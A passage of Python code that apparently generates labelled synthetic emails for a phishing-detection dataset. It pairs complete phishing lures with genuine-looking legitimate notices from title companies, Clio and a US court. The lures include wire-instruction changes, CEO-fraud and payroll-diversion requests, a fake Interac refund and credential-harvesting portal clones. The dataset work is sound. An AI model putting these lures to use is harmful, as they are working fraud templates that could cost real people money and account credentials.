        message_text="Hi Rosa, please review and sign the UPDATED wire instructions for your closing on 2291 Sable Ridge Dr. "
                     "Our previous instructions were recalled by our bank. Please wire your cash to close of $64,918.22 today "
                     "to avoid a delay in funding. Thank you, Escrow Dept.",
        doc_title="Updated Wire Instructions - 2291 Sable Ridge Dr.pdf")
    body = alt(plain, html_body, f"----=_NextPart_{tok(seed + 'np', 8, HEX)}_{tok(seed + 'np2', 4, HEX)}")
    headers = ["From: \"Ridgeline Escrow Dept via Docusign\" <dse_NA3@docusign.net>",
               "Reply-To: \"Ridgeline Escrow Dept\" <escrow@ridgeline-escrow.com>", f"To: Rosa Castellano <{rcpt}>",
               "Subject: Please DocuSign: Updated Wire Instructions - 2291 Sable Ridge Dr.pdf",
               f"Date: {rfc(utc(sent))}", f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@docusign.net>",
               f"X-DocuSign-EnvelopeID: {guid(seed + 'env')}"]
    return assemble(seed, rcv="outlookcom", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("docusign.net", "s1")])


@sample("phish-interac-etransfer-cra-refund", "phishing",
        "Fake INTERAC e-Transfer 'Revenue Canada sent you money' deposit notice to a Vancouver accounting firm from a "
        "compromised WordPress host's Exim, linking to a bank-selection credential kit.")
def a45() -> bytes:
    seed = "a45"
    sent = when("2024-05-07 16:58:20 -0700")
    rcpt = "amandeep@pacificledgercpa.ca"
    ip = "67.227.159.41"
    helo = "host.greenvalleyyoga.com"
    auth = Auth("wordpress@greenvalleyyoga.com", ip, helo, helo, "pass", [("greenvalleyyoga.com", "default", "pass")], None,
                "greenvalleyyoga.com")
    link = f"https://etransfer-deposit-{tok(seed + 'dep', 4)}.com/deposit/?ref=CA{tok(seed + 'ref', 10, UPALNUM)}&amp;lang=en"
    inner = (row('<table width="100%" style="background:#ffc82e;"><tr><td style="padding:14px 24px;font-size:20px;'
                 'font-weight:bold;color:#000;">INTERAC e-Transfer</td></tr></table>', "0") +
             row('<p>Hi AMANDEEP SIDHU,</p><p><b>REVENUE CANADA</b> sent you $612.40 (CAD).</p>'
                 '<p>Message: Tax refund 2023 - Benefit adjustment</p><p>Expires: June 6, 2024</p>', "20px 28px 4px") +
             row(button(link, "Deposit your money", "#000000"), "8px 28px") +
             row('<p style="font-size:11px;color:#666;">Reference Number: CA' + tok(seed + 'ref', 10, UPALNUM) + '<br>'
                 'This email was sent to you by Interac Corp., the owner of the INTERAC e-Transfer service, on behalf of '
                 'REVENUE CANADA. Interac Corp. Royal Bank Plaza, North Tower, 200 Bay Street, Toronto, ON M5J 2J1</p>', "20px 28px"))
    hop = (f"Received: from greenvalleyyoga by {helo} with local (Exim 4.96.2)\n"
           f"\t(envelope-from <wordpress@greenvalleyyoga.com>)\n\tid 1{tok(seed + 'e', 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz')}-{tok(seed + 'e2', 6, UPALNUM)}-{tok(seed + 'e3', 2, UPALNUM)}\n"
           f"\tfor {rcpt};\n\t{rfc(sent)}")
    return phpmailer_mail(seed, rcv="m365ca", rcpt=rcpt, from_="INTERAC e-Transfer <wordpress@greenvalleyyoga.com>",
                          to=rcpt, subject="INTERAC e-Transfer: REVENUE CANADA sent you money.", sent=sent,
                          html_body=web_page(inner), auth=auth, hop=hop, sign=[("greenvalleyyoga.com", "default")],
                          mid_domain="greenvalleyyoga.com")


@sample("phish-land-registry-requisition-mailjet", "phishing",
        "HM Land Registry 'requisition raised, application will be cancelled' lure to a conveyancing team from a "
        "look-alike domain sent through Mailjet, with click-tracked links to a portal login clone.")
def a46() -> bytes:
    seed = "a46"
    sent = when("2025-11-11 10:07:15 +0000")
    rcpt = "conveyancing@ashbyfenwick.co.uk"
    dom = "landregistry-portal.co.uk"
    ip = f"87.253.232.{int(tok(seed, 2, DIGITS)) + 100}"
    helo = f"o{int(tok(seed + 'o', 3, DIGITS))}.p{int(tok(seed + 'p', 2, DIGITS))}.mailjet.com"
    auth = Auth(f"{tok(seed + 'mj', 24, HEX)}@bnc3.mailjet.com", ip, helo, helo, "pass",
                [(dom, "mailjet", "pass")], "pass", dom)
    link = f"http://{tok(seed + 'mjt', 6, ALNUM)}.mjt.lu/lnk/{tok(seed + 'lnk', 60, URLSAFE)}/1/{tok(seed + 'lnk2', 22, URLSAFE)}/aHR0cHM6Ly9wb3J0YWwt"
    inner = (row('<table width="100%" style="background:#00703c;"><tr><td style="padding:12px 24px;color:#fff;font-size:19px;">'
                 '<b>HM Land Registry</b></td></tr></table>', "0") +
             row('<p>Dear Customer,</p><p><b>Requisition raised &ndash; application reference A' + tok(seed + 'ref', 6, DIGITS) +
                 '</b></p><p>Title number: WYK' + tok(seed + 't', 6, DIGITS) + '<br>Property: 14 Plumtree Close, Harrogate</p>'
                 '<p>We have raised a requisition on your application to register a transfer of whole. If we do not receive a '
                 'satisfactory reply within <b>5 working days</b> your application may be cancelled and priority lost.</p>'
                 f'<p><a href="{link}" style="color:#1d70b8;">Sign in to the portal to view and reply</a></p>'
                 '<p>HM Land Registry<br>Customer Support</p>', "20px 28px") +
             row(f'<p style="font-size:11px;color:#666;">You received this because you are registered with the portal. '
                 f'<a href="http://{tok(seed + "mjt", 6, ALNUM)}.mjt.lu/unsub2?hl=en&amp;m={tok(seed + "u", 30, URLSAFE)}">Unsubscribe</a></p>',
                 "8px 28px 24px"))
    plain = ("Dear Customer,\n\nRequisition raised on your application. If we do not receive a satisfactory reply within 5 "
             f"working days your application may be cancelled.\n\nSign in to the portal to view and reply: {link}\n\n"
             "HM Land Registry\n")
    body = alt(plain, web_page(inner), f"=-{tok(seed + 'bd', 10, URLSAFE)}-=")
    headers = [f"Date: {rfc(sent)}", f"From: HM Land Registry <portal@{dom}>", f"To: {rcpt}",
               "Subject: Requisition raised - respond within 5 working days to avoid cancellation",
               f"Message-Id: <{tok(seed + 'mid', 40, HEX)}@{dom}>",
               f"List-Unsubscribe: <mailto:unsub-{tok(seed + 'lu', 20, HEX)}@bnc3.mailjet.com>",
               f"X-CSA-Complaints: csa-complaints@eco.de", f"X-MJ-Mid: {tok(seed + 'mjm', 40, URLSAFE)}",
               "X-Mailjet-Campaign: portal-notice", "Precedence: bulk"]
    return assemble(seed, rcv="m365uk", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[(dom, "mailjet")])


@sample("phish-bec-partner-faster-payment", "phishing",
        "CEO-fraud BEC to a bookkeeper at a UK accounting practice from a Gmail address using the managing partner's "
        "name: 'in a meeting, need an urgent Faster Payment for a client completion', no link.")
def a47() -> bytes:
    seed = "a47"
    sent = when("2024-12-12 10:52:08 +0000")
    rcpt = "lucy@thornburyhale.co.uk"
    paras = ["Lucy,", "", "Are you at your desk? I'm stuck in a client meeting all morning and can't take calls.", "",
             "I need you to process an urgent Faster Payment today for a client completion we are handling, GBP 18,450. "
             "I'll send the payee details as soon as you confirm you can do it before 12.", "",
             "Keep this between us for now, I'll explain later.", "", "Richard", "", "Sent from my iPhone"]
    return gmail_mail(seed, rcv="fastmail", rcpt=rcpt, sender=("Richard Thornbury", "richard.thornbury.office@gmail.com"),
                      to=rcpt, subject="Quick request", sent=sent, paras=paras)


@sample("phish-payroll-diversion-lookalike", "phishing",
        "Payroll diversion BEC to a law firm's office manager from a hyphenated look-alike of the firm's domain on Zoho "
        "Mail, impersonating a paralegal and asking to switch her direct deposit before the next payroll.")
def a48() -> bytes:
    seed = "a48"
    sent = when("2025-04-23 15:36:29 -0400")
    rcpt = "office@harlowbeckett.com"
    dom = "harlow-beckett.com"
    ip = f"136.143.{int(tok(seed, 2, DIGITS)) % 30 + 180}.{int(tok(seed + 'z', 2, DIGITS)) + 40}"
    helo = f"sender4-pp-o{int(tok(seed + 'o', 2, DIGITS))}.zoho.com"
    auth = Auth(f"meredith.okonkwo@{dom}", ip, helo, helo, "pass", [(dom, "zmail", "pass")], None, dom)
    html_body = ('<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>Hi Janet,</div><br>'
                 '<div>I recently changed banks and would like to update my direct deposit information before the next payroll '
                 'run. Can you please send me the form or let me know what details you need? I would like the change to be '
                 'effective for the upcoming pay date.</div><br><div>Thank you,</div><div>Meredith</div><br>'
                 '<div>Meredith Okonkwo<br>Paralegal | Harlow &amp; Beckett LLP</div></div>\n')
    plain = to_plain(html_body.replace("<br>", "\n").replace("</div>", "\n"))
    body = alt(plain, html_body, f"----=_Part_{tok(seed + 'p', 6, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = [f"Date: {rfc(sent)}", f"From: Meredith Okonkwo <meredith.okonkwo@{dom}>", f"To: Janet Pryor <{rcpt}>",
               f"Message-Id: <{tok(seed + 'z1', 11, HEX)}.{tok(seed + 'z2', 16, HEX)}.{tok(seed + 'z3', 19, DIGITS)}@{dom}>",
               "Subject: Direct deposit update", "Importance: Medium", "User-Agent: Zoho Mail", "X-Mailer: Zoho Mail"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, sign=[(dom, "zmail")])


@sample("phish-earnest-money-realtor-lookalike", "phishing",
        "Earnest-money wire fraud to a home buyer from a double-letter look-alike of her agent's brokerage domain on "
        "Google Workspace, congratulating her on the accepted offer and giving wire details in the body; no link.")
def a49() -> bytes:
    seed = "a49"
    sent = when("2025-04-17 19:21:54 -0400")
    rcpt = "pat.hollis@sbcglobal.net"
    paras = [
        "Hi Pat,", "",
        "Congratulations, the sellers accepted your offer on 118 Larkspur Ln! Under the contract your earnest money deposit "
        "of $10,000.00 is due to the escrow agent within 3 days of acceptance, so we need to get this sent by Monday.", "",
        "The closing attorney's office has asked that EMD be wired to their escrow account (they no longer accept personal "
        "checks). Here are the details:", "",
        "Bank: Cross River Bank", "Routing #: 021214891", "Account #: 3310 4481 7796",
        "Account name: Piedmont Closing Escrow", "Memo: 118 Larkspur Ln / Hollis", "",
        "Please send me a copy of the confirmation once the wire is out. I'm showing homes all weekend so text or email is "
        "best.", "",
        "Jordan Pike", "REALTOR&reg; | Cedar Point Realty", "Charlotte, NC",
    ]
    return gmail_mail(seed, rcv="yahoo", rcpt=rcpt, sender=("Jordan Pike", "jordan.pike@cedarpointrealtty.com"), to=rcpt,
                      subject="118 Larkspur Ln - Offer Accepted! EMD wire instructions", sent=sent, paras=paras,
                      workspace=True, dmarc=None)


@sample("phish-ms-forms-fideicommis-fr", "phishing",
        "French-language lure to a Quebec notary from another notary office's compromised Microsoft 365 mailbox "
        "(authentication passes), asking to 'update the trust account' through a Microsoft Forms link that collects credentials.")
def a50() -> bytes:
    seed = "a50"
    sent = when("2025-02-11 09:38:12 -0500")
    rcpt = "me.gagnon@gagnonnotaires.ca"
    link = f"https://forms.office.com/r/{tok(seed + 'f', 10, URLSAFE.replace('-', '').replace('_', ''))}"
    paras = [
        "Bonjour Maître,", "",
        "La Chambre des notaires du Québec demande à toutes les études de confirmer les informations de leur compte en "
        "fidéicommis d'ici le 14 février, dans le cadre de la nouvelle vérification annuelle de l'inspection professionnelle.",
        "", "Nous avons reçu l'avis ce matin et transmettons le lien du formulaire de confirmation à nos collègues :", "",
        f'<a href="{link}">Formulaire de confirmation &ndash; compte en fidéicommis</a>', "",
        "Vous devrez vous identifier avec votre adresse courriel professionnelle pour accéder au formulaire.", "",
        "Cordialement,", "", "Isabelle Lavoie", "Adjointe juridique | Lavoie Notaires inc.", "418 555-0164",
    ]
    return outlook_mail(seed, rcv="gmail", rcpt=rcpt, sender=("Isabelle Lavoie", "reception@lavoienotaire.ca"), to=rcpt,
                        subject="Chambre des notaires : confirmation obligatoire de votre compte en fidéicommis",
                        sent=sent, paras=paras, region="canprd", lang="fr-CA", policy_="none")


# --------------------------------------------------------------------------------------------------------------
# legitimate 1-13: platforms, closing instructions, courts, bars, tax agencies
# --------------------------------------------------------------------------------------------------------------

@sample("legit-docusign-closing-package", "bulk",
        "Genuine DocuSign envelope from the title company's escrow officer to the buyer for the closing package, with the "
        "company's standard reminder that wiring instructions are never changed by email.")
def l01() -> bytes:
    seed = "l01"
    sent = when("2024-06-13 15:41:08 -0600")
    rcpt = "daniel.mercer84@gmail.com"
    auth = docusign_auth(seed, "NA4")
    plain, html_body = docusign_envelope(
        seed, sender_name="Kayla Brandt", sender_email="kbrandt@ridgelinetitle.com", pod="na4",
        message_text="Hi Daniel and Priya, attached is your buyer closing package for 4417 Juniper Ct for review ahead of "
                     "tomorrow's 10:00 AM signing. Documents requiring a notary will be signed in person. Reminder: Ridgeline "
                     "will never change wiring instructions by email. Call our office at the number on our website before "
                     "sending any funds. Thank you, Kayla",
        doc_title="Buyer Closing Package - 4417 Juniper Ct.pdf")
    body = alt(plain, html_body, f"----=_NextPart_{tok(seed + 'np', 8, HEX)}_{tok(seed + 'np2', 4, HEX)}")
    headers = ["From: \"Kayla Brandt via Docusign\" <dse_NA4@docusign.net>",
               "Reply-To: \"Kayla Brandt\" <kbrandt@ridgelinetitle.com>", f"To: Daniel Mercer <{rcpt}>",
               "Subject: Please DocuSign: Buyer Closing Package - 4417 Juniper Ct.pdf",
               f"Date: {rfc(utc(sent))}", f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@docusign.net>",
               f"X-DocuSign-EnvelopeID: {guid(seed + 'env')}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("docusign.net", "s1")])


@sample("legit-dotloop-loop-invite", "bulk",
        "Genuine dotloop invitation from the buyer's agent to a client to review and sign the offer documents, sent through "
        "SendGrid with click tracking.")
def l02() -> bytes:
    seed = "l02"
    sent = when("2025-04-14 20:05:33 -0400")
    rcpt = "pat.hollis@sbcglobal.net"
    hops, ip, helo, rdns = sendgrid_hop(seed, sent)
    mf = f"bounces+2294410-{tok(seed + 'b', 4, HEX)}-pat.hollis=sbcglobal.net@em.dotloop.com"
    auth = Auth(mf, ip, helo + ".em.dotloop.com", rdns + ".em.dotloop.com", "pass", [("dotloop.com", "s1", "pass")], "pass",
                "dotloop.com", "quarantine")
    click = f"https://u2294410.ct.sendgrid.net/ls/click?upn=u001.{tok(seed + 'upn', 160, URLSAFE)}"
    inner = (row('<img src="https://www.dotloop.com/images/email/dotloop-logo.png" width="120" alt="dotloop">', "24px 32px 4px") +
             row('<p style="font-size:18px;"><b>Jordan Pike</b> invited you to a loop</p>'
                 '<p style="font-size:15px;">118 Larkspur Ln, Matthews, NC 28105</p>'
                 '<p style="background:#f4f6f8;padding:12px;">Hi Pat! Here is the offer package we went over tonight: the Offer '
                 'to Purchase, the Due Diligence addendum and the Wire Fraud Warning. Please review and sign when you can. '
                 'Call me with any questions. - Jordan</p>') +
             row(button(click, "Review &amp; Sign", "#0088cc")) +
             row('<p style="font-size:12px;color:#888;">You received this email because Jordan Pike added you to a loop on dotloop. '
                 '&copy; 2025 dotloop, LLC, 1301 2nd Ave, Floor 31, Seattle, WA 98101</p>', "20px 32px 28px"))
    plain = ("Jordan Pike invited you to a loop\n\n118 Larkspur Ln, Matthews, NC 28105\n\nHi Pat! Here is the offer package we "
             "went over tonight: the Offer to Purchase, the Due Diligence addendum and the Wire Fraud Warning. Please review "
             f"and sign when you can. Call me with any questions. - Jordan\n\nReview & Sign: {click}\n\n(c) 2025 dotloop, LLC\n")
    body = alt(plain, web_page(inner), tok(seed + "bd", 64, HEX))
    headers = [f"Date: {rfc(utc(sent))}", "From: Jordan Pike via dotloop <noreply@dotloop.com>",
               "Reply-To: Jordan Pike <jordan.pike@cedarpointrealty.com>", f"To: {rcpt}",
               "Subject: Jordan Pike invited you to a loop: 118 Larkspur Ln, Matthews, NC 28105",
               f"Message-ID: <{tok(seed + 'sgm', 22, URLSAFE)}@geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))}>",
               f"X-SG-EID: u001.{tok(seed + 'eid', 120, URLSAFE)}"]
    return assemble(seed, rcv="yahoo", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[("dotloop.com", "s1")])


@sample("legit-qualia-connect-invite", "bulk",
        "Genuine Qualia Connect invitation from a title company to a buyer to join the closing portal, which repeats the "
        "company's wire-fraud warning to call a known number before wiring.")
def l03() -> bytes:
    seed = "l03"
    sent = when("2025-08-11 10:26:47 -0600")
    rcpt = "r.castellano@outlook.com"
    hops, ip, helo, rdns = sendgrid_hop(seed, sent)
    mf = f"bounces+5520187-{tok(seed + 'b', 4, HEX)}-r.castellano=outlook.com@mail.qualia.com"
    auth = Auth(mf, ip, helo + ".mail.qualia.com", rdns + ".mail.qualia.com", "pass", [("qualia.com", "s1", "pass")], "pass",
                "qualia.com", "reject")
    link = f"https://connect.qualia.com/invite/{tok(seed + 'inv', 32, HEX)}"
    inner = (row('<span style="font-size:22px;font-weight:bold;color:#14213d;">Ridgeline Title &amp; Escrow</span>', "24px 32px 4px") +
             row('<p>Hi Rosa,</p><p>Ridgeline Title &amp; Escrow has invited you to Qualia Connect for your transaction at '
                 '<b>2291 Sable Ridge Dr, Parker, CO 80134</b> (File RT-25-04418).</p><p>Qualia Connect lets you complete '
                 'your information forms, upload documents and see your closing timeline in one secure place.</p>') +
             row(button(link, "Accept invitation", "#2e5bff")) +
             row('<p style="background:#fff4e5;padding:12px;font-size:13px;"><b>Wire fraud alert:</b> Ridgeline Title &amp; '
                 'Escrow will never send you new or changed wiring instructions by email or through this portal message. '
                 'Before wiring any funds, call us at the phone number listed on our website to verify the instructions.</p>') +
             row('<p style="font-size:11px;color:#888;">Sent on behalf of Ridgeline Title &amp; Escrow by Qualia. Qualia Labs, Inc., '
                 '430 California St, San Francisco, CA 94104</p>', "20px 32px 28px"))
    plain = ("Hi Rosa,\n\nRidgeline Title & Escrow has invited you to Qualia Connect for your transaction at 2291 Sable Ridge Dr, "
             f"Parker, CO 80134 (File RT-25-04418).\n\nAccept invitation: {link}\n\nWire fraud alert: Ridgeline Title & Escrow "
             "will never send you new or changed wiring instructions by email. Before wiring any funds, call us at the phone "
             "number listed on our website to verify the instructions.\n")
    body = alt(plain, web_page(inner), tok(seed + "bd", 64, HEX))
    headers = [f"Date: {rfc(utc(sent))}", 'From: "Ridgeline Title & Escrow via Qualia" <notifications@mail.qualia.com>',
               "Reply-To: closings@ridgelinetitle.com", f"To: {rcpt}",
               "Subject: You're invited to Qualia Connect - 2291 Sable Ridge Dr",
               f"Message-ID: <{tok(seed + 'sgm', 22, URLSAFE)}@geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))}>"]
    return assemble(seed, rcv="outlookcom", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[("qualia.com", "s1")])


@sample("legit-sharefile-file-request", "bulk",
        "Genuine ShareFile file request from a CPA firm to an individual client asking him to upload his tax documents "
        "through the firm's own sharefile.com portal.")
def l04() -> bytes:
    seed = "l04"
    sent = when("2025-02-05 11:12:40 -0500")
    rcpt = "greg.tanaka.oh@gmail.com"
    hops, ip, helo, rdns = sendgrid_hop(seed, sent)
    mf = f"bounces+1843392-{tok(seed + 'b', 4, HEX)}-greg.tanaka.oh=gmail.com@em.sf-notifications.com"
    auth = Auth(mf, ip, helo + ".sf-notifications.com", rdns + ".sf-notifications.com", "pass",
                [("sf-notifications.com", "s1", "pass")], "pass", "sf-notifications.com", "reject")
    link = f"https://kesslerwynncpa.sharefile.com/r-r{tok(seed + 'rr', 33, HEX)}"
    inner = (row('<span style="font-size:20px;color:#1c3f6e;"><b>Kessler Wynn CPAs</b></span>', "24px 32px 8px") +
             row('<p><b>Tom Wynn</b> has requested files from you.</p>'
                 '<p style="background:#f5f7fa;padding:12px;border-left:3px solid #0d67a8;">Hi Greg, please upload your 2024 W-2s, '
                 'brokerage 1099s and the property tax statement for the rental when you have them. Your organizer is in the '
                 'portal as well. Thanks! Tom</p>') +
             row(button(link, "Upload Files", "#0d67a8")) +
             row('<p style="font-size:11px;color:#666;">This request expires on 04/15/2025. Powered by ShareFile. '
                 'ShareFile, 120 S West St, Raleigh, NC 27603</p>', "20px 32px"))
    plain = ("Tom Wynn has requested files from you.\n\nHi Greg, please upload your 2024 W-2s, brokerage 1099s and the property "
             f"tax statement for the rental when you have them. Thanks! Tom\n\nUpload Files: {link}\n")
    body = alt(plain, web_page(inner), tok(seed + "bd", 60, HEX))
    headers = [f"Date: {rfc(utc(sent))}", 'From: "Tom Wynn via ShareFile" <mail@sf-notifications.com>',
               "Reply-To: t.wynn@kesslerwynncpa.com", f"To: {rcpt}",
               "Subject: Tom Wynn has requested files from you",
               f"Message-ID: <{tok(seed + 'sgm', 22, URLSAFE)}@geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))}>"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[("sf-notifications.com", "s1")])


@sample("legit-clio-payment-received", "bulk",
        "Genuine Clio Payments notification to a solo attorney that a client paid a retainer into trust, sent through "
        "Amazon SES with Clio's DKIM.")
def l05() -> bytes:
    seed = "l05"
    sent = when("2025-09-04 18:33:21 +0000")
    rcpt = "dana@whitcomblaw.com"
    ip, helo, rdns = ses_hop(seed, sent)
    mid_core = f"0100{tok(seed + 'ses', 12, HEX)}-{guid(seed + 'sg')}-000000"
    auth = Auth(f"{mid_core}@mail.clio.com", ip, helo, rdns, "pass",
                [("clio.com", "clio1", "pass"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", "pass")], "pass",
                "clio.com", "reject")
    link = "https://app.clio.com/nc/#/payments?status=succeeded"
    inner = (row('<span style="font-size:26px;font-weight:bold;color:#0070e0;">clio</span>', "24px 32px 0") +
             row('<h2 style="font-size:20px;">You received a payment</h2>'
                 '<table cellpadding="4" style="font-size:14px;"><tr><td>Amount</td><td><b>$2,500.00</b></td></tr>'
                 '<tr><td>From</td><td>Ellen Foster</td></tr><tr><td>Matter</td><td>00142-Foster - Estate Planning</td></tr>'
                 '<tr><td>Deposited to</td><td>Trust (IOLTA) &middot;&middot;&middot;&middot;4471</td></tr>'
                 '<tr><td>Method</td><td>Card (Visa &middot;&middot;&middot;&middot;2209)</td></tr></table>') +
             row(button(link, "View payment in Clio", "#0070e0")) +
             row('<p style="font-size:12px;color:#6b6b6b;">You are receiving this email because payment notifications are turned '
                 'on for your Clio account. Manage notifications in Settings.<br>Themis Solutions Inc. (Clio), 4500 East Cotton '
                 'Center Blvd, Phoenix, AZ 85040</p>', "20px 32px 28px"))
    plain = ("You received a payment\n\nAmount: $2,500.00\nFrom: Ellen Foster\nMatter: 00142-Foster - Estate Planning\n"
             f"Deposited to: Trust (IOLTA) ****4471\n\nView payment in Clio: {link}\n")
    body = alt(plain, web_page(inner, bg="#f2f4f7"), f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = ["From: Clio <notifications@clio.com>", f"To: {rcpt}",
               "Subject: Payment received: $2,500.00 from Ellen Foster", f"Date: {rfc(sent)}",
               f"Message-ID: <{mid_core}@email.amazonses.com>",
               f"Feedback-ID: ::1.us-east-1.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES",
               f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-{ip}"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("clio.com", "clio1"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")])


@sample("legit-title-welcome-wire-instructions", "clean",
        "Genuine welcome email from a title company's escrow officer to buyers with the wiring-instructions PDF and the "
        "standard 'call us at a verified number before you wire' warning.")
def l06() -> bytes:
    seed = "l06"
    sent = when("2024-06-10 09:03:26 -0600")
    rcpt = "daniel.mercer84@gmail.com"
    paras = [
        "Hi Daniel and Priya,", "",
        "Welcome! Ridgeline Title &amp; Escrow has opened file RT-24-03187 for your purchase of 4417 Juniper Ct, Littleton. "
        "Closing is scheduled for Friday, June 14 at 10:00 AM at our Greenwood Village office.", "",
        "Your lender will send the Closing Disclosure directly. We will confirm your final cash-to-close figure once it is "
        "balanced.", "",
        "Attached are our wiring instructions and wire fraud advisory. <b>Before you send any funds, please call our office "
        "at (303) 555-0110 (the number on our website, not one from an email) and ask for me or our closing team to verify "
        "the instructions verbally.</b> Our instructions will not change during your transaction, and we will never email "
        "you new or updated instructions.", "",
        "Please bring a valid government-issued photo ID to closing.", "",
        "Kayla Brandt | Escrow Officer",
    ]
    sig = ["", "<b>Kayla Brandt</b>", "Escrow Officer | Ridgeline Title &amp; Escrow",
           "7600 E Orchard Rd, Suite 250N, Greenwood Village, CO 80111", "Office (303) 555-0110 | ridgelinetitle.com"]
    att = pdf_att("Ridgeline_Wiring_Instructions_and_Fraud_Advisory.pdf", [
        "RIDGELINE TITLE & ESCROW, LLC - WIRING INSTRUCTIONS",
        "File No.: RT-24-03187   Property: 4417 Juniper Ct, Littleton, CO 80127",
        "",
        "Bank: FirstBank, 12345 W Colfax Ave, Lakewood, CO 80215",
        "ABA: 107005047   Account Name: Ridgeline Title & Escrow LLC Escrow Account",
        "Account No.: provided verbally upon verification call",
        "",
        "WIRE FRAUD ADVISORY",
        "Criminals are hacking email accounts and sending fake wiring instructions.",
        "Ridgeline will NEVER change wiring instructions by email.",
        "Always call us at (303) 555-0110 to verify before wiring. Do not use a phone number from an email.",
    ], title="Wiring Instructions RT-24-03187")
    return outlook_mail(seed, rcv="gmail", rcpt=rcpt, sender=("Kayla Brandt", "kbrandt@ridgelinetitle.com"),
                        to="Daniel Mercer <daniel.mercer84@gmail.com>", cc="priya.mercer.pm@gmail.com",
                        subject="4417 Juniper Ct - Closing Scheduled Friday / RT-24-03187", sent=sent, paras=paras,
                        attachments=[att], signature=sig, policy_="quarantine")


def uscourts_auth(seed: str, court: str) -> Auth:
    ip = f"156.119.{int(tok(seed, 2, DIGITS)) % 50 + 190}.{int(tok(seed + 'i', 2, DIGITS)) + 20}"
    return Auth(f"ECFnotice@{court}.uscourts.gov", ip, f"ecf.{court}.uscourts.gov", f"mail{tok(seed + 'h', 1, '12')}.uscourts.gov",
                "pass", [], "pass", f"{court}.uscourts.gov", "reject")


@sample("legit-cmecf-nef-order", "bulk",
        "Genuine CM/ECF Notice of Electronic Filing from the District of Massachusetts for an order in a case the firm "
        "appears in, with the one free-look document link on the court's own host.")
def l07() -> bytes:
    seed = "l07"
    sent = when("2025-01-28 14:22:51 -0500")
    rcpt = "tharlow@harlowbeckett.com"
    doc = (f"https://ecf.mad.uscourts.gov/doc1/0951{tok(seed + 'doc', 8, DIGITS)}?caseid=27{tok(seed + 'cid', 4, DIGITS)}"
           f"&amp;de_seq_num=58&amp;magic_num={tok(seed + 'mn', 8, DIGITS)}")
    html_body = ("<p><strong>This is an automatic e-mail message generated by the CM/ECF system. Please DO NOT RESPOND to this "
                 "e-mail because the mail box is unattended.</strong><br><strong>***NOTE TO PUBLIC ACCESS USERS*** Judicial "
                 "Conference of the United States policy permits attorneys of record and parties in a case (including pro se "
                 "litigants) to receive one free electronic copy of all documents filed electronically, if receipt is required "
                 "by law or directed by the filer. PACER access fees apply to all other users. To avoid later charges, download "
                 "a copy of each document during this first viewing. However, if the referenced document is a transcript, the "
                 "free copy and 30 page limit do not apply.</strong></p>\n"
                 "<p align=\"center\"><strong>United States District Court</strong></p>\n"
                 "<p align=\"center\"><strong>District of Massachusetts</strong></p>\n"
                 "<p><strong>Notice of Electronic Filing</strong></p>\n"
                 "<div>The following transaction was entered on 1/28/2025 at 2:22 PM EST and filed on 1/28/2025</div>\n"
                 "<table border=\"0\" cellspacing=\"0\"><tr><td><strong>Case Name:</strong></td><td>Marston v. Ridgeway Supply LLC"
                 "</td></tr><tr><td><strong>Case Number:</strong></td><td><a href=\"https://ecf.mad.uscourts.gov/cgi-bin/DktRpt.pl?"
                 f"27{tok(seed + 'cid', 4, DIGITS)}\">1:24-cv-12011-ADB</a></td></tr><tr><td><strong>Filer:</strong></td><td></td></tr>"
                 f"<tr><td><strong>Document Number:</strong></td><td><a href=\"{doc}\">58</a></td></tr></table>\n"
                 "<p><strong>Docket Text:</strong><br><strong>Judge Allison D. Burroughs: ELECTRONIC ORDER entered granting in "
                 "part and denying in part [41] Motion to Dismiss for Failure to State a Claim. Counts III and IV are dismissed. "
                 "Defendant shall answer the remaining counts within 14 days. (MAP)</strong></p>\n"
                 "<p>1:24-cv-12011-ADB Notice has been electronically mailed to:</p>\n"
                 "<p>Thomas Harlow &nbsp; tharlow@harlowbeckett.com, docket@harlowbeckett.com</p>\n"
                 "<p>Nicole A. Brandt &nbsp; nbrandt@fieldstonellp.com, mhughes@fieldstonellp.com</p>\n"
                 "<p>1:24-cv-12011-ADB Notice will not be electronically mailed to:</p>\n")
    auth = uscourts_auth(seed, "mad")
    uid = tok(seed + "uid", 16, DIGITS)
    headers = ["From: ECFnotice@mad.uscourts.gov", "To: CourtCopy@mad.uscourts.gov",
               f"Message-Id: <{uid}@mad.uscourts.gov>",
               "Subject: Activity in Case 1:24-cv-12011-ADB Marston v. Ridgeway Supply LLC Order on Motion to Dismiss for "
               "Failure to State a Claim".replace(" Order on Motion", "\n Order on Motion"),
               f"Date: {rfc(sent)}"]
    body = Leaf("text/html", html_body.encode(), "7bit", "")
    hop = (f"Received: from ecf.mad.uscourts.gov (ecf.mad.uscourts.gov [10.164.8.{int(tok(seed + 'x', 2, DIGITS)) + 20}])\n"
